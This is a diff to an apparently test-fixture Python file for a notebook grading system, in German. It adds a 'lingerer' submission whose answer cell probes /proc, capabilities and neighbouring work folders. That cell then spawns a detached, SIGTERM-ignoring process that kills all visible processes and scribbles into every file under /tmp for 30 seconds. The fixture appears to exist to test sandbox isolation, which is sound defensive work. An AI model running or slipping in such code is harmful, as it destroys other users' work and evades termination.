@@ -369,3 +369,38 @@ def module_notebook(release):
                             {"cell_type": "code", "metadata": {}, "id": "m2", "source": "x = 1",
                              "outputs": [], "execution_count": None}],
                   "metadata": release["metadata"], "nbformat": 4, "nbformat_minor": 5})
+
+
+def lingerer(release):
+    """Gegen die Vorlage der Kernel: zeigt, was der Kernel sieht (Prozesse, Capabilities, Kennung, Elternprozess),
+    und lässt einen abgelösten Prozess zurück, der 30 s lang alles Sichtbare beendet und fremde Arbeitsordner sucht;
+    Antworten richtig."""
+    code = """import os, signal, time
+summe = 6
+status = dict(z.split(':', 1) for z in open('/proc/self/status').read().splitlines() if ':' in z)
+prozesse = [int(p) for p in os.listdir('/proc') if p.isdigit()]
+print('PROZESSE', len(prozesse), 'ICH', os.getpid(), 'ELTERN', os.getppid(), 'UID', os.getuid(),
+      'CAP', status['CapEff'].strip() + status['CapPrm'].strip(), 'NNP', status['NoNewPrivs'].strip())
+import sys
+arbeit = os.path.dirname(sys.argv[sys.argv.index('-f') + 1])  # Arbeitsordner mit der Verbindungsdatei
+print('ORDNER', os.path.basename(arbeit), os.listdir(os.path.dirname(arbeit)))
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        signal.signal(signal.SIGTERM, signal.SIG_IGN)
+        time.sleep(1)
+        ende = time.time() + 30
+        while time.time() < ende:
+            try:
+                os.kill(-1, signal.SIGKILL)
+            except OSError:
+                pass
+            for ordner, _, dateien in os.walk('/tmp'):
+                for name in dateien:
+                    try:
+                        open(os.path.join(ordner, name), 'a').write('kaputt')
+                    except OSError:
+                        pass
+            time.sleep(0.05)
+    os._exit(0)"""
+    return dumps(answered(release, a1_loesung=code))
